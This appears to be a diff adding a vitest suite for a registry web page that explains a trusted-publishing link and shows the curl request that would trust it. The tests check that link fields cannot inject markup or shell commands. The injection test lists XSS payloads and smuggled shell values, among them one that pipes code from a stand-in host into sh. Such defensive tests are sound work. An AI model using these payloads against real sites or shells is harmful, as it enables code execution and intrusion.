@@ -1,0 +1,96 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startTestServer, type TestServer } from '../../testing/test-server.ts';
+
+let server: TestServer;
+beforeAll(async () => {
+  server = await startTestServer();
+});
+afterAll(() => server.close());
+
+const job = {
+  provider: 'gitlab',
+  'identity.namespace': 'acme',
+  'identity.project': 'rocket',
+  'identity.workflow': '.gitlab-ci.yml',
+  environment: 'release',
+  crate: 'rocket',
+  attempt: '3f0c0000-0000-4000-8000-000000000000',
+};
+const open = (change: Record<string, string | undefined> = {}) => {
+  const fields = Object.entries({ ...job, ...change }).filter(
+    (entry): entry is [string, string] => entry[1] !== undefined,
+  );
+  return server.request('GET', `/trusted-publishing/mend?${new URLSearchParams(fields)}`, { token: null });
+};
+
+it('shows the job of the link, where to look, and the request that would trust it', async () => {
+  const answer = await open();
+  expect(answer.status).toBe(200);
+  for (const value of ['acme', 'rocket', '.gitlab-ci.yml', 'release', job.attempt]) {
+    expect(answer.text).toContain(value);
+  }
+  expect(answer.text).toContain('anybody can write a link');
+  expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
+  expect(answer.headers.get('cache-control')).toBe('no-store');
+});
+
+it('the request it shows is one that the registry takes', async () => {
+  const { text } = await open();
+  const [, shown = ''] = /-d &#39;(\{[\s\S]*?\n\})&#39;/.exec(text) ?? [];
+  const body: unknown = JSON.parse(shown.replaceAll('&quot;', '"'));
+  const answer = await server.request('POST', '/api/v1/trusted_publishing/publishers', { body });
+  // Here there is no issuer of GitLab; everything before that was right.
+  expect(answer.json.errors[0].code).toBe('issuer_not_configured');
+});
+
+describe('nothing in a link becomes markup, or a command of the shell it is pasted into', () => {
+  const values = [
+    '<script>alert(1)</script>.yml',
+    '"><img src=x onerror=alert(1)>.yml',
+    "';curl evil.example|sh;'.yml",
+    '$(id)`id`.yml',
+    'a\u202elmy.yml',
+    'a\r\nx.yml',
+    `${'a'.repeat(5000)}.yml`,
+  ];
+  for (const field of [
+    'identity.namespace',
+    'identity.project',
+    'identity.workflow',
+    'environment',
+    'crate',
+    'attempt',
+    'provider',
+  ]) {
+    it.each(values)(`${field}: %j`, async (value) => {
+      const { status, text } = await open({ [field]: value });
+      expect(status).toBe(200);
+      const body = text.slice(text.indexOf('<main>'));
+      expect(body).not.toMatch(/<script|<img|\u202e/);
+      expect(body.length).toBeLessThan(20_000);
+      // A quote inside the quoted body would have to be written as '\''.
+      for (const command of body.match(/-d &#39;[\s\S]*?<\/code>/g) ?? []) {
+        expect(command.slice('-d &#39;'.length).replaceAll('&#39;\\&#39;&#39;', '')).toMatch(
+          /^(?:(?!&#39;)[\s\S])*&#39;<\/code>$/,
+        );
+      }
+    });
+  }
+});
+
+it.each([
+  ['nothing', { provider: undefined }],
+  ['a provider that is a word of the language', { provider: 'constructor' }],
+  ['no field of the identity', { 'identity.workflow': undefined }],
+])('a link with %s is no page, and no failure either', async (_, change) => {
+  const { status, text } = await open(change);
+  expect(status).toBe(200);
+  expect(text).toContain('This link cannot be read');
+  expect(text).not.toContain('curl');
+});
+
+it('a field given twice is not taken', async () => {
+  const query = `${new URLSearchParams(job)}&identity.workflow=other.yml`;
+  const answer = await server.request('GET', `/trusted-publishing/mend?${query}`, { token: null });
+  expect(answer.text).toContain('This link cannot be read');
+});
